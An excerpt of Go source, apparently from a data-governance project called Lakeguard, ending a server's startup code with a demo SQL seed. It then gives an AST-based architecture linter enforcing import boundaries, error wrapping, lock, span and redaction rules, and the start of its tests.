			MaxQueueDepth: *maxQueueDepth,
			Weights:       weights,
			Metrics:       metrics,
			OnShed: func(tenant, reason string, retryAfter time.Duration) {
				spooler.RecordShed(tenant)
				log.Printf("shed %s (%s), retry after %v", tenant, reason, retryAfter)
			},
		})
		service.SetAdmission(ctrl)
	}

	// Self-healing loop: every tick, drain clusters whose circuit breakers
	// opened, then let the autoscaler react to queue depth and shed rate.
	if *autoscaleMs > 0 {
		scaler := gateway.NewAutoscaler(gw, gateway.AutoscaleConfig{
			Signals: ctrl,
			Metrics: metrics,
		})
		go func() {
			for range time.Tick(time.Duration(*autoscaleMs) * time.Millisecond) {
				drained, err := gw.CheckHealth()
				if err != nil {
					log.Printf("health sweep: %v", err)
				}
				if drained > 0 {
					log.Printf("health sweep drained %d unhealthy cluster(s)", drained)
				}
				if d := scaler.Tick(); d.Action != "hold" {
					log.Printf("autoscale %s cluster %s (%s, %d session(s) moved)", d.Action, d.Cluster, d.Reason, d.Moved)
				}
			}
		}()
	}

	if *demo {
		seedDemo(cat, *admin)
	}

	mux := http.NewServeMux()
	mux.Handle("/", service.Handler())
	mux.Handle("/metrics", metrics)
	mux.Handle("/debug/queries", telemetry.DebugQueriesHandler(tracer))
	mux.HandleFunc("/debug/admission", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		_ = json.NewEncoder(w).Encode(struct {
			Admission admission.Stats `json:"admission"`
			Fleet     gateway.Stats   `json:"fleet"`
		}{ctrl.Snapshot(), gw.FleetStats()})
	})

	log.Printf("lakeguard-server listening on %s (%d token(s)), telemetry at /metrics, /debug/queries, /debug/admission", *addr, len(tokens))
	if err := http.ListenAndServe(*addr, mux); err != nil {
		log.Fatal(err)
	}
}

func seedDemo(cat *catalog.Catalog, admin string) {
	srv := core.NewServer(core.Config{Name: "seed", Catalog: cat, Compute: catalog.ComputeStandard})
	stmts := []string{
		"CREATE TABLE sales (amount DOUBLE, date DATE, seller STRING, region STRING)",
		`INSERT INTO sales VALUES
			(100, CAST('2024-12-01' AS DATE), 'ann', 'US'),
			(200, CAST('2024-12-01' AS DATE), 'ben', 'EU'),
			(50,  CAST('2024-12-02' AS DATE), 'ann', 'US'),
			(300, CAST('2024-12-02' AS DATE), 'ben', 'EU')`,
		"ALTER TABLE sales SET ROW FILTER 'region = ''US'' OR IS_ACCOUNT_GROUP_MEMBER(''admins'')'",
	}
	for _, s := range stmts {
		pl := &proto.Plan{Command: &proto.Command{SQL: s}}
		if _, _, err := srv.Execute(context.Background(), admin+"/seed", admin, pl); err != nil {
			log.Fatalf("demo seed %q: %v", s, err)
		}
	}
	log.Println("demo data seeded: table `sales` with a row filter (region='US')")
}
