// Package lint is the Lakeguard architecture linter. It enforces, with the
// standard library's go/ast, go/parser, and go/types only, the structural
// rules the security model depends on but the compiler cannot express:
//
//   - import boundaries: enforcement-layer packages (exec, optimizer,
//     sandbox) must not import the catalog or storage directly — the only
//     route to governed bytes is a vended credential — and user-code
//     plumbing (udf) must not import the engine;
//   - error wrapping: fmt.Errorf calls that forward an error must use %w so
//     callers can errors.Is/As through layer boundaries;
//   - lock hygiene: no function signature passes a sync lock by value
//     (a copied mutex silently stops guarding);
//   - security context: every exported entry point on the governance
//     surfaces (catalog.Catalog, core.Server) must carry the caller's
//     security context — a security.RequestContext parameter or explicit
//     sessionID/user strings — so no privileged path can be called without
//     an identity to attribute it to;
//   - span hygiene: every *telemetry.Span obtained from StartSpan/StartTrace
//     must be ended (.End/.EndErr) or handed off (returned, stored, passed
//     to a closer) in the function that starts it — a leaked span corrupts
//     trace durations and the tracer's open-span accounting;
//   - expression redaction: verifier and analyzer messages (internal/sentinel,
//     internal/analyzer) must not format plan expressions directly — a policy
//     predicate rendered into an error leaks the very literals (tenant IDs,
//     salary thresholds) the policy exists to hide. plan.RedactedString is
//     the sanctioned form.
//
// The linter analyzes production code: _test.go files are excluded (tests
// legitimately cross layers to stage fixtures). Findings are structured for
// machine consumption; cmd/lakeguard-lint renders them as text or JSON.
package lint

import (
	"fmt"
	"go/ast"
	"go/importer"
	"go/parser"
	"go/token"
	"go/types"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
)

// Finding is one rule violation.
type Finding struct {
	File    string `json:"file"` // relative to the module root
	Line    int    `json:"line"`
	Col     int    `json:"col"`
	Rule    string `json:"rule"`
	Message string `json:"message"`
}

func (f Finding) String() string {
	return fmt.Sprintf("%s:%d:%d: %s: %s", f.File, f.Line, f.Col, f.Rule, f.Message)
}

// Rule names.
const (
	RuleImportBoundary  = "import-boundary"
	RuleErrWrap         = "errwrap"
	RuleLockByValue     = "lock-by-value"
	RuleSecurityContext = "security-context"
	RuleSelectDone      = "select-done"
	RuleSpanEnd         = "span-end"
	RuleExprInError     = "expr-in-error"
	RuleTypecheck       = "typecheck"
)

// Boundary forbids one package (and its subpackages) from importing another.
type Boundary struct {
	Pkg       string // module-relative package path
	Forbidden string // module-relative package path it must not import
	Why       string
}

// DefaultBoundaries is the Lakeguard layering contract.
var DefaultBoundaries = []Boundary{
	{"internal/exec", "internal/catalog", "the engine reads governed data only through vended credentials (TableProvider)"},
	{"internal/exec", "internal/storage", "the engine must not reach the object store behind the credential check"},
	{"internal/optimizer", "internal/catalog", "plan rewrites must not depend on governance state"},
	{"internal/optimizer", "internal/storage", "plan rewrites must not touch storage"},
	{"internal/sandbox", "internal/catalog", "sandboxed user code must have no path to governance APIs"},
	{"internal/sandbox", "internal/storage", "sandboxed user code must have no path to the object store"},
	{"internal/udf", "internal/exec", "user-code plumbing must not depend on the engine that isolates it"},
}

// ctxExempt are exported methods on the governance surfaces that are
// infrastructure accessors or deployment-time setup, not per-request entry
// points, and therefore carry no caller identity.
var ctxExempt = map[string]map[string]bool{
	"Catalog": {
		"Audit": true, "Store": true, "AddAdmin": true, "CreateGroup": true,
		"RemoveFromGroup": true, "IsGroupMember": true, "GroupsOf": true,
		"SetMetrics": true,
		// The system-table surface is driven by the in-process spooler and
		// retention sweeper, not by callers with identities: writes refuse
		// any table outside the reserved catalog, and per-tenant access is
		// enforced on the read path by the governed scan's row filter.
		"EnsureSystemTable": true, "AppendSystemTable": true,
		"SystemTableCount": true, "TruncateSystemTableBefore": true,
		// Spooler-driven system-table maintenance (engine identity, audited
		// as such) and deployment-time checkpoint-interval setup.
		"MaintainSystemTable": true, "SetCheckpointInterval": true,
	},
	"Server": {
		"Catalog": true, "Dispatcher": true, "ClusterManager": true,
		"Compute": true, "ActiveSessions": true, "SessionStore": true,
	},
}

// ctxReceivers are the receiver types the security-context rule applies to,
// keyed by module-relative package path.
var ctxReceivers = map[string]map[string]bool{
	"internal/catalog": {"Catalog": true},
	"internal/core":    {"Server": true},
}

// pkg is one parsed (and later typechecked) module package.
type pkg struct {
	rel   string // module-relative dir, "" for root
	path  string // import path
	dir   string
	files []*ast.File
	names []string // file names parallel to files
	// internal imports (module-relative) for topo ordering.
	deps  map[string]bool
	tpkg  *types.Package
	info  *types.Info
	broke bool // typecheck failed; type-based rules skipped
}

// Runner lints one module.
type Runner struct {
	Root       string
	Module     string
	Boundaries []Boundary

	fset *token.FileSet
	pkgs map[string]*pkg // by rel
}

// NewRunner prepares a linter for the module rooted at root (the directory
// containing go.mod).
func NewRunner(root string) (*Runner, error) {
	mod, err := modulePath(filepath.Join(root, "go.mod"))
	if err != nil {
		return nil, err
	}
	return &Runner{
		Root:       root,
		Module:     mod,
		Boundaries: DefaultBoundaries,
		fset:       token.NewFileSet(),
		pkgs:       map[string]*pkg{},
	}, nil
}

// Run parses, typechecks, and applies every rule, returning findings sorted
// by position.
func (r *Runner) Run() ([]Finding, error) {
	if err := r.load(); err != nil {
		return nil, err
	}
	var out []Finding
	out = append(out, r.checkBoundaries()...)
	out = append(out, r.typecheckAll()...)
	for _, p := range r.sorted() {
		if p.broke {
			continue
		}
		out = append(out, r.checkErrWrap(p)...)
		out = append(out, r.checkLockByValue(p)...)
		out = append(out, r.checkSecurityContext(p)...)
		out = append(out, r.checkSelectDone(p)...)
		out = append(out, r.checkSpanEnd(p)...)
		out = append(out, r.checkExprInError(p)...)
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].File != out[j].File {
			return out[i].File < out[j].File
		}
		if out[i].Line != out[j].Line {
			return out[i].Line < out[j].Line
		}
		return out[i].Rule < out[j].Rule
	})
	return out, nil
}

func modulePath(gomod string) (string, error) {
	data, err := os.ReadFile(gomod)
	if err != nil {
		return "", fmt.Errorf("lint: reading module file: %w", err)
	}
	for _, line := range strings.Split(string(data), "\n") {
		line = strings.TrimSpace(line)
		if rest, ok := strings.CutPrefix(line, "module "); ok {
			return strings.TrimSpace(rest), nil
		}
	}
	return "", fmt.Errorf("lint: no module directive in %s", gomod)
}

// load parses every production .go file in the module.
func (r *Runner) load() error {
	return filepath.WalkDir(r.Root, func(path string, d os.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if d.IsDir() {
			name := d.Name()
			if path != r.Root && (strings.HasPrefix(name, ".") || strings.HasPrefix(name, "_") || name == "testdata" || name == "vendor") {
				return filepath.SkipDir
			}
			return nil
		}
		if !strings.HasSuffix(path, ".go") || strings.HasSuffix(path, "_test.go") {
			return nil
		}
		file, err := parser.ParseFile(r.fset, path, nil, parser.ParseComments)
		if err != nil {
			return fmt.Errorf("lint: %w", err)
		}
		dir := filepath.Dir(path)
		rel, err := filepath.Rel(r.Root, dir)
		if err != nil {
			return err
		}
		if rel == "." {
			rel = ""
		}
		rel = filepath.ToSlash(rel)
		p := r.pkgs[rel]
		if p == nil {
			importPath := r.Module
			if rel != "" {
				importPath = r.Module + "/" + rel
			}
			p = &pkg{rel: rel, path: importPath, dir: dir, deps: map[string]bool{}}
			r.pkgs[rel] = p
		}
		p.files = append(p.files, file)
		p.names = append(p.names, path)
		for _, imp := range file.Imports {
			ip, _ := strconv.Unquote(imp.Path.Value)
			if rest, ok := strings.CutPrefix(ip, r.Module+"/"); ok {
				p.deps[rest] = true
			}
		}
		return nil
	})
}

func (r *Runner) relFile(pos token.Pos) (string, int, int) {
	p := r.fset.Position(pos)
	rel, err := filepath.Rel(r.Root, p.Filename)
	if err != nil {
		rel = p.Filename
	}
	return filepath.ToSlash(rel), p.Line, p.Column
}

func (r *Runner) finding(pos token.Pos, rule, format string, args ...any) Finding {
	file, line, col := r.relFile(pos)
	return Finding{File: file, Line: line, Col: col, Rule: rule, Message: fmt.Sprintf(format, args...)}
}

func (r *Runner) sorted() []*pkg {
	rels := make([]string, 0, len(r.pkgs))
	for rel := range r.pkgs {
		rels = append(rels, rel)
	}
	sort.Strings(rels)
	out := make([]*pkg, len(rels))
	for i, rel := range rels {
		out[i] = r.pkgs[rel]
	}
	return out
}

// --- rule: import boundaries ---------------------------------------------

func within(rel, root string) bool {
	return rel == root || strings.HasPrefix(rel, root+"/")
}

func (r *Runner) checkBoundaries() []Finding {
	var out []Finding
	for _, p := range r.sorted() {
		for i, file := range p.files {
			_ = i
			for _, imp := range file.Imports {
				ip, _ := strconv.Unquote(imp.Path.Value)
				rest, ok := strings.CutPrefix(ip, r.Module+"/")
				if !ok {
					continue
				}
				for _, b := range r.Boundaries {
					if within(p.rel, b.Pkg) && within(rest, b.Forbidden) {
						out = append(out, r.finding(imp.Pos(), RuleImportBoundary,
							"%s must not import %s: %s", b.Pkg, b.Forbidden, b.Why))
					}
				}
			}
		}
	}
	return out
}

// --- typechecking ---------------------------------------------------------

// moduleImporter resolves module-internal packages from the checked set and
// everything else (the standard library) from source.
type moduleImporter struct {
	std  types.Importer
	mod  string
	pkgs map[string]*types.Package // by import path
}

func (m *moduleImporter) Import(path string) (*types.Package, error) {
	if p, ok := m.pkgs[path]; ok {
		return p, nil
	}
	if path == m.mod || strings.HasPrefix(path, m.mod+"/") {
		return nil, fmt.Errorf("lint: internal package %s not yet checked (dependency cycle?)", path)
	}
	return m.std.Import(path)
}

// typecheckAll checks packages in dependency order. A package that fails to
// typecheck produces a finding and is skipped by type-based rules.
func (r *Runner) typecheckAll() []Finding {
	var out []Finding
	mi := &moduleImporter{
		std:  importer.ForCompiler(r.fset, "source", nil),
		mod:  r.Module,
		pkgs: map[string]*types.Package{},
	}
	checked := map[string]bool{}
	var check func(rel string)
	check = func(rel string) {
		p := r.pkgs[rel]
		if p == nil || checked[rel] {
			return
		}
		checked[rel] = true
		for dep := range p.deps {
			check(dep)
		}
		info := &types.Info{
			Types: map[ast.Expr]types.TypeAndValue{},
			Uses:  map[*ast.Ident]types.Object{},
			Defs:  map[*ast.Ident]types.Object{},
		}
		var firstErr error
		conf := types.Config{
			Importer: mi,
			Error: func(err error) {
				if firstErr == nil {
					firstErr = err
				}
			},
		}
		tpkg, err := conf.Check(p.path, r.fset, p.files, info)
		if firstErr == nil {
			firstErr = err
		}
		if firstErr != nil {
			p.broke = true
			pos := token.NoPos
			if te, ok := firstErr.(types.Error); ok {
				pos = te.Pos
			}
			out = append(out, r.finding(pos, RuleTypecheck, "package %s does not typecheck: %v", p.path, firstErr))
			return
		}
		p.tpkg = tpkg
		p.info = info
		mi.pkgs[p.path] = tpkg
	}
	for _, p := range r.sorted() {
		check(p.rel)
	}
	return out
}

// --- rule: fmt.Errorf must wrap forwarded errors with %w ------------------

func (r *Runner) checkErrWrap(p *pkg) []Finding {
	errType := types.Universe.Lookup("error").Type()
	var out []Finding
	for _, file := range p.files {
		ast.Inspect(file, func(n ast.Node) bool {
			call, ok := n.(*ast.CallExpr)
			if !ok {
				return true
			}
			sel, ok := call.Fun.(*ast.SelectorExpr)
			if !ok || sel.Sel.Name != "Errorf" {
				return true
			}
			ident, ok := sel.X.(*ast.Ident)
			if !ok {
				return true
			}
			pn, ok := p.info.Uses[ident].(*types.PkgName)
			if !ok || pn.Imported().Path() != "fmt" {
				return true
			}
			if len(call.Args) < 2 {
				return true
			}
			lit, ok := call.Args[0].(*ast.BasicLit)
			if !ok || lit.Kind != token.STRING {
				return true // dynamic format string; out of scope
			}
			format, err := strconv.Unquote(lit.Value)
			if err != nil || strings.Contains(format, "%w") {
				return true
			}
			for _, arg := range call.Args[1:] {
				t := p.info.TypeOf(arg)
				if t != nil && types.AssignableTo(t, errType) {
					out = append(out, r.finding(call.Pos(), RuleErrWrap,
						"fmt.Errorf forwards an error without %%w; callers cannot errors.Is/As through it"))
					break
				}
			}
			return true
		})
	}
	return out
}

// --- rule: no sync locks passed by value ----------------------------------

// lockKinds are the sync types that must never be copied.
var lockKinds = map[string]bool{
	"Mutex": true, "RWMutex": true, "Once": true, "WaitGroup": true,
	"Cond": true, "Pool": true, "Map": true,
}

func containsLock(t types.Type, seen map[types.Type]bool) bool {
	if t == nil || seen[t] {
		return false
	}
	seen[t] = true
	switch u := t.(type) {
	case *types.Named:
		if obj := u.Obj(); obj.Pkg() != nil && obj.Pkg().Path() == "sync" && lockKinds[obj.Name()] {
			return true
		}
		return containsLock(u.Underlying(), seen)
	case *types.Struct:
		for i := 0; i < u.NumFields(); i++ {
			if containsLock(u.Field(i).Type(), seen) {
				return true
			}
		}
	case *types.Array:
		return containsLock(u.Elem(), seen)
	}
	return false
}

func (r *Runner) checkLockByValue(p *pkg) []Finding {
	var out []Finding
	for _, file := range p.files {
		ast.Inspect(file, func(n ast.Node) bool {
			var ftype *ast.FuncType
			var recv *ast.FieldList
			switch d := n.(type) {
			case *ast.FuncDecl:
				ftype, recv = d.Type, d.Recv
			case *ast.FuncLit:
				ftype = d.Type
			default:
				return true
			}
			checkList := func(fl *ast.FieldList, what string) {
				if fl == nil {
					return
				}
				for _, field := range fl.List {
					t := p.info.TypeOf(field.Type)
					if t == nil {
						continue
					}
					if _, isPtr := t.(*types.Pointer); isPtr {
						continue
					}
					if containsLock(t, map[types.Type]bool{}) {
						out = append(out, r.finding(field.Pos(), RuleLockByValue,
							"%s copies a sync lock by value (type %s); pass a pointer", what, t))
					}
				}
			}
			checkList(recv, "receiver")
			checkList(ftype.Params, "parameter")
			checkList(ftype.Results, "result")
			return true
		})
	}
	return out
}

// --- rule: governance entry points carry a security context ---------------

// isRequestContext matches security.RequestContext (and therefore its
// aliases, which resolve to the same named type).
func isRequestContext(t types.Type) bool {
	named, ok := t.(*types.Named)
	if !ok {
		return false
	}
	obj := named.Obj()
	return obj.Name() == "RequestContext" && obj.Pkg() != nil &&
		strings.HasSuffix(obj.Pkg().Path(), "/internal/security")
}

func (r *Runner) checkSecurityContext(p *pkg) []Finding {
	receivers := ctxReceivers[p.rel]
	if receivers == nil {
		return nil
	}
	var out []Finding
	for _, file := range p.files {
		for _, decl := range file.Decls {
			fn, ok := decl.(*ast.FuncDecl)
			if !ok || fn.Recv == nil || !fn.Name.IsExported() {
				continue
			}
			recvName := receiverTypeName(fn.Recv)
			if !receivers[recvName] {
				continue
			}
			if ctxExempt[recvName][fn.Name.Name] {
				continue
			}
			if r.signatureCarriesContext(p, fn.Type) {
				continue
			}
			out = append(out, r.finding(fn.Pos(), RuleSecurityContext,
				"exported entry point %s.%s takes no security context (add a security.RequestContext or sessionID/user parameters, or exempt it as infrastructure)",
				recvName, fn.Name.Name))
		}
	}
	return out
}

// --- rule: sandbox selects must have an escape arm ------------------------

// selectDonePkgs are the packages whose channel operations synchronize with
// potentially-dead user code: every select there needs an escape arm (a
// receive from a done channel, a ctx.Done()/timer arm, or a default clause),
// or a wedged interpreter wedges the engine goroutine with it.
var selectDonePkgs = map[string]bool{
	"internal/sandbox": true,
}

func (r *Runner) checkSelectDone(p *pkg) []Finding {
	if !selectDonePkgs[p.rel] {
		return nil
	}
	var out []Finding
	for _, file := range p.files {
		ast.Inspect(file, func(n ast.Node) bool {
			sel, ok := n.(*ast.SelectStmt)
			if !ok {
				return true
			}
			for _, stmt := range sel.Body.List {
				if comm, ok := stmt.(*ast.CommClause); ok && commIsEscape(comm) {
					return true
				}
			}
			out = append(out, r.finding(sel.Pos(), RuleSelectDone,
				"select in %s has no escape arm (receive from a done channel, ctx.Done(), a timer, or default); a dead sandbox would block this goroutine forever", p.rel))
			return true
		})
	}
	return out
}

// commIsEscape reports whether one select clause lets the goroutine escape a
// dead peer: a default clause, or a receive from a teardown/deadline channel
// (done, ctx.Done(), a timer's C, or a <-chan time.Time like timeoutC).
func commIsEscape(comm *ast.CommClause) bool {
	if comm.Comm == nil {
		return true // default:
	}
	var ch ast.Expr
	switch s := comm.Comm.(type) {
	case *ast.ExprStmt:
		if u, ok := s.X.(*ast.UnaryExpr); ok && u.Op == token.ARROW {
			ch = u.X
		}
	case *ast.AssignStmt:
		if len(s.Rhs) == 1 {
			if u, ok := s.Rhs[0].(*ast.UnaryExpr); ok && u.Op == token.ARROW {
				ch = u.X
			}
		}
	}
	if ch == nil {
		return false // send clause
	}
	return chanIsEscape(ch)
}

func chanIsEscape(ch ast.Expr) bool {
	switch e := ch.(type) {
	case *ast.Ident:
		return escapeChanName(e.Name)
	case *ast.SelectorExpr:
		// s.done, timer.C, ctx.Done() receiver chains.
		return escapeChanName(e.Sel.Name)
	case *ast.CallExpr:
		// ctx.Done() (or any method named Done returning the escape channel).
		if sel, ok := e.Fun.(*ast.SelectorExpr); ok {
			return sel.Sel.Name == "Done"
		}
	}
	return false
}

// escapeChanName matches the teardown/deadline channel naming convention the
// sandbox layer uses: done channels, timer .C fields, and timeout channels.
func escapeChanName(name string) bool {
	return name == "done" || name == "C" || strings.HasPrefix(name, "timeout")
}

// --- rule: started spans must be ended or handed off ----------------------

// isSpanPtr matches *telemetry.Span.
func isSpanPtr(t types.Type) bool {
	ptr, ok := t.(*types.Pointer)
	if !ok {
		return false
	}
	named, ok := ptr.Elem().(*types.Named)
	if !ok {
		return false
	}
	obj := named.Obj()
	return obj.Name() == "Span" && obj.Pkg() != nil &&
		strings.HasSuffix(obj.Pkg().Path(), "/internal/telemetry")
}

// isSpanStartCall matches calls that open a span: telemetry.StartSpan,
// Tracer.StartTrace, and any local helper following the Start*/start*
// naming convention. Accessors that merely return an existing span (Root,
// SpanFrom) are not starts and carry no End obligation.
func isSpanStartCall(call *ast.CallExpr) bool {
	var name string
	switch fn := call.Fun.(type) {
	case *ast.Ident:
		name = fn.Name
	case *ast.SelectorExpr:
		name = fn.Sel.Name
	default:
		return false
	}
	return strings.HasPrefix(name, "Start") || strings.HasPrefix(name, "start")
}

// checkSpanEnd flags spans that are started and then dropped. A span counts
// as handled when, somewhere in the same file after its binding, it is ended
// (a .End() or .EndErr(...) call, possibly deferred) or it escapes the
// starting function — passed to another call (endSpans, append), returned,
// stored in a composite literal, or assigned onward (e.g. to a struct field)
// — in which case the receiver owns ending it. Binding the span result to
// the blank identifier is always a violation: a traced request would leak an
// open span on every execution.
func (r *Runner) checkSpanEnd(p *pkg) []Finding {
	var out []Finding
	for _, file := range p.files {
		// Pass 1: collect span bindings.
		type binding struct {
			pos  token.Pos
			name string
		}
		var blanks []token.Pos
		tracked := map[types.Object]binding{}
		ast.Inspect(file, func(n ast.Node) bool {
			as, ok := n.(*ast.AssignStmt)
			if !ok || len(as.Rhs) != 1 {
				return true
			}
			call, ok := as.Rhs[0].(*ast.CallExpr)
			if !ok || !isSpanStartCall(call) {
				return true
			}
			ct := p.info.TypeOf(call)
			if ct == nil {
				return true
			}
			record := func(lhs ast.Expr) {
				ident, ok := lhs.(*ast.Ident)
				if !ok {
					return // stored into a field/index: the holder owns it
				}
				if ident.Name == "_" {
					blanks = append(blanks, ident.Pos())
					return
				}
				obj := p.info.Defs[ident]
				if obj == nil {
					obj = p.info.Uses[ident]
				}
				if obj != nil {
					tracked[obj] = binding{pos: ident.Pos(), name: ident.Name}
				}
			}
			if tuple, ok := ct.(*types.Tuple); ok {
				for i := 0; i < tuple.Len() && i < len(as.Lhs); i++ {
					if isSpanPtr(tuple.At(i).Type()) {
						record(as.Lhs[i])
					}
				}
			} else if isSpanPtr(ct) && len(as.Lhs) == 1 {
				record(as.Lhs[0])
			}
			return true
		})
		for _, pos := range blanks {
			out = append(out, r.finding(pos, RuleSpanEnd,
				"span result of StartSpan/StartTrace bound to _; end it (.End/.EndErr) or hand it off, or a traced request leaks an open span"))
		}
		if len(tracked) == 0 {
			continue
		}

		// Pass 2: look for an ending or escaping use of each binding.
		handled := map[types.Object]bool{}
		var stack []ast.Node
		ast.Inspect(file, func(n ast.Node) bool {
			if n == nil {
				stack = stack[:len(stack)-1]
				return false
			}
			stack = append(stack, n)
			ident, ok := n.(*ast.Ident)
			if !ok {
				return true
			}
			obj := p.info.Uses[ident]
			if obj == nil {
				return true
			}
			if _, ok := tracked[obj]; !ok {
				return true
			}
			if spanUseHandles(stack) {
				handled[obj] = true
			}
			return true
		})
		for obj, b := range tracked {
			if handled[obj] {
				continue
			}
			out = append(out, r.finding(b.pos, RuleSpanEnd,
				"span %s is started but never ended or handed off; call .End()/.EndErr(err) on every path or pass it to an owner that does", b.name))
		}
	}
	return out
}

// spanUseHandles classifies one use of a span variable (the last node on the
// stack) as ending/escaping or not.
func spanUseHandles(stack []ast.Node) bool {
	if len(stack) < 2 {
		return false
	}
	ident := stack[len(stack)-1].(*ast.Ident)
	parent := stack[len(stack)-2]
	switch pn := parent.(type) {
	case *ast.SelectorExpr:
		// sp.End() / sp.EndErr(err); attribute setters don't end the span.
		if pn.X == ident && (pn.Sel.Name == "End" || pn.Sel.Name == "EndErr") {
			return true
		}
	case *ast.CallExpr:
		// Passed as an argument (endSpans(...), append(wspans, sp), ...).
		for _, arg := range pn.Args {
			if arg == ident {
				return true
			}
		}
	case *ast.ReturnStmt:
		return true
	case *ast.CompositeLit, *ast.KeyValueExpr:
		return true
	case *ast.AssignStmt:
		// Assigned onward (struct field, slice element, another variable).
		for _, rhs := range pn.Rhs {
			if rhs == ident {
				return true
			}
		}
	}
	return false
}

// --- rule: no plan expressions formatted into verifier/analyzer messages ---

// exprErrPkgs are the packages whose error and message strings cross the
// governance boundary back to untrusted callers: a plan expression rendered
// there leaks policy predicate literals (tenant IDs, thresholds) verbatim.
var exprErrPkgs = map[string]bool{
	"internal/sentinel": true,
	"internal/analyzer": true,
}

// fmtMessageFns are the fmt functions whose output becomes an error or
// message string.
var fmtMessageFns = map[string]bool{
	"Errorf": true, "Sprintf": true, "Sprint": true, "Sprintln": true,
}

// planExprIface resolves the lakeguard/internal/plan.Expr interface from the
// package's typechecked imports (nil when the package never imports plan —
// then nothing it formats can be an Expr).
func planExprIface(p *pkg) *types.Interface {
	for _, imp := range p.tpkg.Imports() {
		if !strings.HasSuffix(imp.Path(), "/internal/plan") {
			continue
		}
		obj := imp.Scope().Lookup("Expr")
		if obj == nil {
			continue
		}
		if iface, ok := obj.Type().Underlying().(*types.Interface); ok {
			return iface
		}
	}
	return nil
}

// formatVerbs returns the verb letter each successive Printf argument is
// consumed by ('*' for a dynamic width/precision argument). Flags, widths,
// and %% are skipped.
func formatVerbs(format string) []byte {
	var verbs []byte
	for i := 0; i < len(format); i++ {
		if format[i] != '%' {
			continue
		}
		i++
		for i < len(format) {
			c := format[i]
			if c == '%' {
				break
			}
			if c == '*' {
				verbs = append(verbs, '*')
				i++
				continue
			}
			if (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') {
				verbs = append(verbs, c)
				break
			}
			i++
		}
	}
	return verbs
}

func implementsPlanExpr(t types.Type, iface *types.Interface) bool {
	if t == nil {
		return false
	}
	if types.Implements(t, iface) {
		return true
	}
	if _, isPtr := t.(*types.Pointer); !isPtr {
		return types.Implements(types.NewPointer(t), iface)
	}
	return false
}

func (r *Runner) checkExprInError(p *pkg) []Finding {
	if !exprErrPkgs[p.rel] {
		return nil
	}
	iface := planExprIface(p)
	if iface == nil {
		return nil
	}
	var out []Finding
	for _, file := range p.files {
		ast.Inspect(file, func(n ast.Node) bool {
			call, ok := n.(*ast.CallExpr)
			if !ok {
				return true
			}
			sel, ok := call.Fun.(*ast.SelectorExpr)
			if !ok || !fmtMessageFns[sel.Sel.Name] {
				return true
			}
			ident, ok := sel.X.(*ast.Ident)
			if !ok {
				return true
			}
			pn, ok := p.info.Uses[ident].(*types.PkgName)
			if !ok || pn.Imported().Path() != "fmt" {
				return true
			}
			args := call.Args
			var verbs []byte
			if sel.Sel.Name == "Errorf" || sel.Sel.Name == "Sprintf" {
				if len(args) < 2 {
					return true
				}
				if lit, ok := args[0].(*ast.BasicLit); ok && lit.Kind == token.STRING {
					if format, err := strconv.Unquote(lit.Value); err == nil {
						verbs = formatVerbs(format)
					}
				}
				args = args[1:] // skip the format string
			}
			for i, arg := range args {
				// %T renders only the dynamic type name — no literals leak.
				if i < len(verbs) && verbs[i] == 'T' {
					continue
				}
				// X.String() launders the expression into a plain string;
				// catch it by looking at the receiver's type.
				target := arg
				if inner, ok := arg.(*ast.CallExpr); ok {
					if isel, ok := inner.Fun.(*ast.SelectorExpr); ok && isel.Sel.Name == "String" && len(inner.Args) == 0 {
						target = isel.X
					}
				}
				if implementsPlanExpr(p.info.TypeOf(target), iface) {
					out = append(out, r.finding(arg.Pos(), RuleExprInError,
						"plan expression formatted into a %s message leaks policy predicate literals; use plan.RedactedString", p.rel))
				}
			}
			return true
		})
	}
	return out
}

func receiverTypeName(recv *ast.FieldList) string {
	if len(recv.List) == 0 {
		return ""
	}
	t := recv.List[0].Type
	if star, ok := t.(*ast.StarExpr); ok {
		t = star.X
	}
	if ident, ok := t.(*ast.Ident); ok {
		return ident.Name
	}
	return ""
}

func (r *Runner) signatureCarriesContext(p *pkg, ftype *ast.FuncType) bool {
	if ftype.Params == nil {
		return false
	}
	for _, field := range ftype.Params.List {
		t := p.info.TypeOf(field.Type)
		if t == nil {
			continue
		}
		if isRequestContext(t) {
			return true
		}
		if basic, ok := t.Underlying().(*types.Basic); ok && basic.Kind() == types.String {
			for _, name := range field.Names {
				if name.Name == "sessionID" || name.Name == "user" {
					return true
				}
			}
		}
	}
	return false
}
