package lint

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestLintClean is the tier-1 gate: the repository itself must satisfy its
// own architecture rules.
func TestLintClean(t *testing.T) {
	root, err := filepath.Abs(filepath.Join("..", ".."))
	if err != nil {
		t.Fatal(err)
	}
	r, err := NewRunner(root)
	if err != nil {
		t.Fatal(err)
	}
	findings, err := r.Run()
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range findings {
		t.Errorf("%s", f)
	}
}

// writeModule materializes a synthetic module named "lakeguard" (so the
// default boundary and context rules apply) and lints it.
func lintModule(t *testing.T, files map[string]string) []Finding {
	t.Helper()
	root := t.TempDir()
	files["go.mod"] = "module lakeguard\n\ngo 1.22\n"
	for rel, content := range files {
		path := filepath.Join(root, filepath.FromSlash(rel))
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	r, err := NewRunner(root)
	if err != nil {
		t.Fatal(err)
	}
	findings, err := r.Run()
	if err != nil {
		t.Fatal(err)
	}
	return findings
}

func wantRule(t *testing.T, findings []Finding, rule, inMessage string) {
	t.Helper()
	for _, f := range findings {
		if f.Rule == rule && (inMessage == "" || strings.Contains(f.Message, inMessage)) {
			return
		}
	}
	t.Fatalf("no %s finding (containing %q) in %v", rule, inMessage, findings)
}

func wantNoRule(t *testing.T, findings []Finding, rule string) {
	t.Helper()
	for _, f := range findings {
		if f.Rule == rule {
			t.Fatalf("unexpected %s finding: %s", rule, f)
		}
	}
}

func TestImportBoundaryViolation(t *testing.T) {
	findings := lintModule(t, map[string]string{
		"internal/catalog/catalog.go": "package catalog\n\n// V is exported.\nvar V = 1\n",
		"internal/exec/engine.go":     "package exec\n\nimport \"lakeguard/internal/catalog\"\n\n// V re-exports.\nvar V = catalog.V\n",
	})
